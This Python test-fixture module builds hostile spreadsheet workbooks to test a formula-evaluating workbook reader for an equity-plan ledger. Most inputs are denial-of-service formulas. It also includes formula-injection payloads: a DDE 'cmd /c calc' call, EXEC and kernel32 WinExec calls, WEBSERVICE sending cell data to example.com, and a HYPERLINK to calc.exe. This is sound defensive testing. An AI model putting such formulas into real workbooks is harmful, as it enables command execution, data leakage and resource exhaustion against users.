"""Formulas that would never end, reach outside or lie about their result."""

from hostile.kind import (
    BOOK,
    STORED,
    Kind,
    escaped,
    grainy,
    packed,
    with_cells,
    with_formulas,
    with_sheet,
    with_text,
)
from workbook.making import parts

ALL = "A1:XFD1048576"
POOL = "POOL_AVAILABLE(1000,A1:A3,G1:G3)"
"""A plan function, so that what stands around it and in it is calculated."""


def names(*pairs: tuple[str, str], formula: str = "1") -> bytes:
    """The ledger with defined names, and formulas (parted by NUL) that use them."""
    defined = "".join(f'<definedName name="{name}">{escaped(text)}</definedName>' for name, text in pairs)
    content = parts(with_formulas(*formula.split("\0")))
    content[BOOK] = content[BOOK].replace(b"</sheets>", f"</sheets><definedNames>{defined}</definedNames>".encode())
    return packed(content, STORED)


def nested(text: str, times: int, inner: str = "1") -> str:
    return f"{text}(" * times + inner + ")" * times


def doubling(times: int) -> str:
    """LET names that double a text each."""
    steps = ",".join(f"a{at},a{at - 1}&a{at - 1}" for at in range(1, times))
    return f'LET(a0,"xxxxxxxx",{steps},{POOL}+LEN(a{times - 1}))'


def shared(followers: int, formula: str) -> bytes:
    start = f'<f t="shared" si="0" ref="L10:L{10 + followers}">{escaped(formula)}</f>'
    first = f'<row r="10"><c r="L10">{start}<v>1</v></c></row>'
    rest = "".join(
        f'<row r="{row}"><c r="L{row}"><f t="shared" si="0"/><v>1</v></c></row>' for row in range(11, 11 + followers)
    )
    return with_sheet(rows=first + rest)


def array_over(ref: str, formula: str) -> bytes:
    return with_cells([f'><f t="array" ref="{ref}">{escaped(formula)}</f><v>1</v>'])


def chain(number: int) -> list[str]:
    """Each cell from the one below it."""
    return [f"L{row + 1}+1" for row in range(10, 10 + number)]


FORMULAS: tuple[Kind, ...] = (
    Kind("formula of 1 MB", "a million characters of +1", "findings", lambda: with_formulas("1" + "+1" * 500_000)),
    Kind(
        "plan function in 1 MB",
        "a plan function in a formula of a million characters",
        "unchecked",
        lambda: with_formulas(POOL + "+1" * 500_000),
    ),
    Kind(
        "1,000 formulas of 30,000 characters",
        "each another one",
        "too large",
        lambda: with_sheet(
            rows=b"".join(
                b'<row r="%d"><c r="L%d"><f>%s+{%d%s}</f><v>1</v></c></row>'
                % (at, at, POOL.encode(), at, b",1" * 14_900)
                for at in range(10, 1_010)
            ),
            method=STORED,
        ),
        heavy=True,
    ),
    Kind(
        "nested 10,000 deep",
        "brackets around a plan function",
        "unchecked",
        lambda: with_formulas("(" * 10_000 + POOL + ")" * 10_000),
    ),
    Kind("functions 5,000 deep", "ABS of ABS of ...", "unchecked", lambda: with_formulas(nested("ABS", 5_000, POOL))),
    Kind("IF 64 deep", "as deep as Excel goes", "unchecked", lambda: with_formulas("IF(1," * 63 + POOL + ")" * 63)),
    Kind("signs 10,000 times", "------1", "findings", lambda: with_formulas("-" * 8_000 + POOL)),
    Kind("no formula", "brackets that do not close", "unchecked", lambda: with_formulas(POOL + "+((((")),
    Kind(
        "quotes without end",
        "a text that does not close",
        "unchecked",
        lambda: with_formulas(POOL + '&"' + '""' * 4_000),
    ),
    Kind(
        "brackets without end",
        "table brackets that do not close",
        "unchecked",
        lambda: with_formulas(POOL + "+T[" + "[" * 4_000),
    ),
    Kind("apostrophes", "8,000 of them", "unchecked", lambda: with_formulas(POOL + "+" + "'" * 8_000 + "!A1")),
    Kind(
        "addresses without end",
        "8,000 of A1:A1:A1",
        "unchecked",
        lambda: with_formulas(POOL + "+" + ":".join(["A1"] * 2_500)),
    ),
    Kind(
        "intersections",
        "2,500 ranges and spaces",
        "unchecked",
        lambda: with_formulas(POOL + "+" + " ".join(["A:A"] * 1_900)),
    ),
    Kind(
        "array constant of 4,000",
        "within braces",
        "findings",
        lambda: with_formulas(POOL + "+SUM({" + ",".join(["1"] * 4_000) + "})"),
    ),
    Kind(
        "names in a circle",
        "a for b for a",
        "unchecked",
        lambda: names(("a", "b+1"), ("b", "a+1"), formula=f"{POOL}+a"),
    ),
    Kind(
        "names that double",
        "each is the one before, twice: 2^60",
        "unchecked",
        lambda: names(
            ("name_0", "1"),
            *((f"name_{i}", f"name_{i - 1}+name_{i - 1}") for i in range(1, 60)),
            formula=f"{POOL}+name_59",
        ),
    ),
    Kind(
        "names that double ten times over",
        "sixteen deep, ten of each",
        "unchecked",
        lambda: names(
            ("name_0", "1"),
            *((f"name_{i}", "+".join([f"name_{i - 1}"] * 10)) for i in range(1, 15)),
            formula=f"{POOL}+name_14",
        ),
    ),
    Kind(
        "names that double in the plan",
        "the same as the argument of a plan function",
        "unchecked",
        lambda: names(
            ("name_0", "1"),
            *((f"name_{i}", "+".join([f"name_{i - 1}"] * 10)) for i in range(1, 15)),
            formula="POOL_AVAILABLE(name_14,A1:A3,G1:G3)",
        ),
    ),
    Kind(
        "100,000 names",
        "of cells",
        "findings",
        lambda: names(*((f"name{i}", f"Grants!$A${i + 1}") for i in range(100_000))),
        heavy=True,
    ),
    Kind(
        "20,000 names of plan functions",
        "which no cell uses",
        "unchecked",
        lambda: names(*((f"name{i}", f"{POOL}+{i}") for i in range(20_000))),
        heavy=True,
    ),
    Kind(
        "chain of 5,000 names",
        "the last of them with a plan function",
        "unchecked",
        lambda: names(*((f"link_{i}", f"link_{i + 1}") for i in range(5_000)), ("link_5000", POOL)),
    ),
    Kind(
        "2,000 names in 10,000 cells",
        "of plan functions",
        "unchecked",
        lambda: names(
            *((f"plan_{i}", POOL) for i in range(2_000)), formula="\0".join(f"SUM(A{i + 1})" for i in range(10_000))
        ),
    ),
    Kind(
        "500 what-if tables",
        "as large as the sheet",
        "unchecked",
        lambda: with_cells(
            [
                f'><f t="dataTable" ref="A1:XFD{at}" dt2D="1" dtr="1" r1="A1" r2="A2"/><v>1</v>'
                for at in range(1_000_000, 1_000_500)
            ]
        ),
    ),
    Kind(
        "name of 1 MB", "a formula of a million characters", "findings", lambda: names(("long", "1" + "+1" * 500_000))
    ),
    Kind("LET that doubles", "a text doubled 40 times", "unchecked", lambda: with_formulas(doubling(40))),
    Kind(
        "REPT chains",
        "32,767 times 32,767",
        "unchecked",
        lambda: with_formulas(
            f'{POOL}+LEN(REPT(REPT("x",32767),32767))', f'{POOL}+LEN(REPT(REPT("x",32767)&REPT("x",32767),32767))'
        ),
    ),
    Kind(
        "REPT in a line",
        "a hundred of REPT",
        "unchecked",
        lambda: with_formulas(f"{POOL}+LEN(" + "&".join(['REPT("x",32767)'] * 100) + ")"),
        heavy=True,
    ),
    Kind(
        "SEQUENCE of all cells",
        "17 billion values",
        "unchecked",
        lambda: with_formulas(
            f"{POOL}+SUM(SEQUENCE(1048576,16384))",
            f"{POOL}+ROWS(RANDARRAY(1048576,1000))",
            f"{POOL}+COLUMNS(MUNIT(30000))",
        ),
    ),
    Kind(
        "MAKEARRAY of all cells",
        "with a LAMBDA for each",
        "unchecked",
        lambda: with_formulas(f"{POOL}+SUM(_xlfn.MAKEARRAY(1048576,1000,_xlfn.LAMBDA(_xlpm.r,_xlpm.c,_xlpm.r)))"),
    ),
    Kind(
        "LAMBDA that calls itself",
        "for ever",
        "unchecked",
        lambda: names(("f", "LAMBDA(x,f(x+1))"), formula=f"{POOL}+f(1)"),
    ),
    Kind(
        "SUMPRODUCT of columns",
        "whole columns times whole rows",
        "findings",
        lambda: with_formulas(
            f"{POOL}+SUMPRODUCT((A:A=1)*(1:1=1))", f"{POOL}+SUM(A:A*1:1)", f"{POOL}+SUMPRODUCT({ALL}*{ALL})"
        ),
    ),
    Kind(
        "sum of all cells",
        ALL,
        "findings",
        lambda: with_formulas(f"{POOL}+SUM({ALL})", f"{POOL}+COUNTBLANK({ALL})", f'{POOL}+COUNTIF({ALL},"*a*b*c*d*")'),
    ),
    Kind(
        "plan function over all cells",
        ALL,
        "unchecked",
        lambda: with_formulas(
            f"POOL_AVAILABLE(1000,{ALL},{ALL})", f"PLAN_CHECK({ALL})", f"ISO_LIMIT_SPLIT({ALL},{ALL},{ALL},{ALL},{ALL})"
        ),
    ),
    Kind(
        "plan function over columns",
        "whole columns in 2,000 cells",
        "findings",
        lambda: with_formulas(*["POOL_AVAILABLE(1000,A:A,G:G)"] * 2_000),
    ),
    Kind(
        "different plan functions",
        "whole columns in 1,000 cells, each otherwise",
        "findings",
        lambda: with_formulas(*(f"POOL_AVAILABLE({at},A:A,G:G)" for at in range(1_000))),
        heavy=True,
    ),
    Kind(
        "whole columns in 20,000 cells",
        "SUM(A:G)+1, without the plan",
        "findings",
        lambda: with_formulas(*(f"SUM(A:G)+{at}" for at in range(20_000))),
    ),
    Kind(
        "lookups in 3,000 cells",
        "around a plan function",
        "findings",
        lambda: with_formulas(*(f"{POOL}+IFERROR(VLOOKUP({at},A:G,7,FALSE),0)" for at in range(3_000))),
        heavy=True,
    ),
    Kind(
        "INDIRECT and OFFSET",
        "to all cells, and round and round",
        "findings",
        lambda: with_formulas(
            f'{POOL}+SUM(INDIRECT("A1:XFD1048576"))',
            f"{POOL}+SUM(OFFSET(A1,0,0,1048576,16384))",
            'POOL_AVAILABLE(INDIRECT("L"&ROW()),A1:A3,G1:G3)',
        ),
    ),
    Kind(
        "circle of plan functions",
        "each from the other",
        "findings",
        lambda: with_formulas("POOL_AVAILABLE(L11,A1:A3,G1:G3)", "POOL_AVAILABLE(L10,A1:A3,G1:G3)"),
    ),
    Kind("chain of 20,000", "each cell from the one below", "findings", lambda: with_formulas(*chain(20_000))),
    Kind(
        "chain of 3,000 plan functions",
        "each from the one below",
        "findings",
        lambda: with_formulas(*(f"POOL_AVAILABLE(L{row + 1},A1:A3,G1:G3)" for row in range(10, 3_010))),
        heavy=True,
    ),
    Kind(
        "shared 200,000 times",
        "one formula of 100 characters",
        "findings",
        lambda: shared(200_000, "SUM(A1:G9)+" * 9 + "1"),
        heavy=True,
    ),
    Kind(
        "long shared 20,000 times",
        "one formula of 8,000 characters",
        "too large",
        lambda: shared(20_000, "1" + "+A1" * 2_600),
        heavy=True,
    ),
    Kind(
        "shared without a first",
        "followers of a formula that is not there",
        "unchecked",
        lambda: with_cells(['><f t="shared" si="77"/><v>1</v>']),
    ),
    Kind("array over all cells", ALL, "findings", lambda: array_over(ALL, "SUM(A:A)")),
    Kind(
        "plan function over a sheet",
        "a spill of a plan function that fills all cells",
        "unchecked",
        lambda: array_over(ALL, POOL),
    ),
    Kind("spill outside of the sheet", "L10:XFE9999999", "damaged", lambda: array_over("L10:XFE9999999", POOL)),
    Kind(
        "500 arrays over all cells",
        "each of a plan function",
        "unchecked",
        lambda: with_cells(
            [f'><f t="array" ref="A1:XFD{at}">{POOL}</f><v>1</v>' for at in range(1_000_000, 1_000_500)]
        ),
    ),
    Kind(
        "3,000 arrays to the last column",
        "each of a plan function, and a cell in the last corner",
        "unchecked",
        lambda: with_cells(
            [
                *(f'><f t="array" ref="A1:XFD{at}">{POOL}</f><v>1</v>' for at in range(1_000_000, 1_003_000)),
                '/><c r="XFD3010"><v>1</v>',
            ]
        ),
        heavy=True,
    ),
    Kind(
        "what-if table over all cells",
        "a data table of all cells",
        "findings",
        lambda: with_cells([f'><f t="dataTable" ref="{ALL}" dt2D="1" dtr="1" r1="A1" r2="A2"/><v>1</v>']),
    ),
    Kind(
        "DDE",
        "cmd|'/c calc'!A1, never run",
        "unchecked",
        lambda: with_formulas("cmd|'/c calc'!A1", f"{POOL}+cmd|'/c calc'!A1"),
    ),
    Kind(
        "WEBSERVICE",
        "a page on the web, never asked",
        "unchecked",
        lambda: with_formulas(
            'WEBSERVICE("http://example.com/"&A2)', f'{POOL}+LEN(_xlfn.WEBSERVICE("http://example.com"))'
        ),
    ),
    Kind(
        "HYPERLINK",
        "to a program, never followed",
        "findings",
        lambda: with_formulas(
            'HYPERLINK("file:///c:/windows/calc.exe")', f'{POOL}+LEN(HYPERLINK("\\\\example.com\\a"))'
        ),
    ),
    Kind(
        "functions of macro sheets",
        "EXEC, CALL and REGISTER, never run",
        "unchecked",
        lambda: with_formulas(
            'EXEC("calc.exe")', f'{POOL}+CALL("kernel32","WinExec","JC","calc",1)', f'{POOL}+REGISTER("a","b","c")'
        ),
    ),
    Kind(
        "Python in Excel",
        "PY, never run",
        "unchecked",
        lambda: with_formulas("_xlfn._xlws.PY(0,1)", f"{POOL}+_xlfn._xlws.PY(0,1)"),
    ),
    Kind("result that lies", "the pool saved as 1", "findings", lambda: with_formulas(POOL)),
    Kind("workbooks by number", "[99999]Sheet!A1", "unchecked", lambda: with_formulas(f"{POOL}+[99999]Sheet1!A1")),
    Kind(
        "sheets across",
        "Grants:Holders!A1 in a plan function",
        "unchecked",
        lambda: with_formulas("POOL_AVAILABLE(Grants:Holders!A1,Grants:Holders!A:XFD,A1:A3)"),
    ),
    Kind(
        "pattern that goes back",
        "wildcards that take for ever",
        "findings",
        lambda: with_formulas(
            f'{POOL}+COUNTIF(L1:L9,"{"*a" * 100}")', f'{POOL}+SEARCH("{"*a" * 100}b",REPT("a",30000))'
        ),
        heavy=True,
    ),
    Kind(
        "regular expression that goes back",
        "(a+)+b",
        "unchecked",
        lambda: with_formulas(f'{POOL}+_xlfn.REGEXTEST(REPT("a",30000),"(a+)+b")'),
    ),
    Kind(
        "powers",
        "9^9^9^9 and FACT(10^300)",
        "findings",
        lambda: with_formulas(
            f"{POOL}+9^9^9^9", f"{POOL}+FACT(1E300)", f"{POOL}+COMBIN(1E300,1E299)", f"{POOL}+BASE(2^52,2,255)"
        ),
    ),
    Kind(
        "PERMUTATIONS",
        "of days, periods and rates",
        "unchecked",
        lambda: with_formulas(
            f"{POOL}+CUMIPMT(0.1,1000000000,1,1,1000000000,0)",
            f"{POOL}+NETWORKDAYS(1,2958465)",
            f"{POOL}+WORKDAY(1,2000000000)",
            f"{POOL}+RATE(1E9,1,1)",
        ),
        heavy=True,
    ),
    Kind(
        "plan function of huge numbers",
        "1E307 shares, -1, 1E-307",
        "findings",
        lambda: with_formulas(
            "ADJUST_FOR_SPLIT(1E307,1E-307,1E307,1E-307)",
            "MERGER_CASHOUT(1E307,1E307,-1E307)",
            "VEST_TRANCHES(1E15,1E9,1,0,DATE(2000,1,1))",
            "ADJUST_FOR_SPLIT(1E300,1,1000000007,999999937)",
        ),
    ),
    Kind(
        "validations of plan functions",
        "20,000 of them",
        "unchecked",
        lambda: with_sheet(
            after=b"<dataValidations>"
            + grainy(f'<dataValidation sqref="L9"><formula1>{POOL}</formula1></dataValidation>'.encode(), 20_000)
            + b"</dataValidations>"
        ),
    ),
    Kind(
        "calculation for ever",
        "iterateCount of two billion",
        "findings",
        lambda: with_text(BOOK, "<calcPr ", '<calcPr iterate="1" iterateCount="2000000000" iterateDelta="0" '),
    ),
    Kind(
        "version that is none",
        "calcId of 900,000 digits",
        "unread",
        lambda: with_text(BOOK, 'calcId="124519"', 'calcId="' + "9" * 900_000 + '"'),
    ),
)
